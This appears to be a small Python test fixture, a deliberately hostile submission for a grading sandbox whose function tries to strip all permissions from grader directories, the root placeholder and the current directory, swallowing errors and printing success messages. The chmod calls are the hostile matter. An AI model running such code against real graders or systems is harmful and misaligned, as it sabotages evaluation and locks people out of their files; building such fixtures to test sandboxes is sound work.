"""Hostile: closes to all whatever it can reach."""

import os


def print_succ(state):
    for path in ["@ROOT@/grader/assignments", "@ROOT@/grader", "@ROOT@"]:
        try:
            os.chmod(path, 0)
            if not os.stat(path).st_mode & 0o777:  # success may be pretended
                print("done: changed", path)
        except OSError:
            pass
    os.chmod(".", 0)
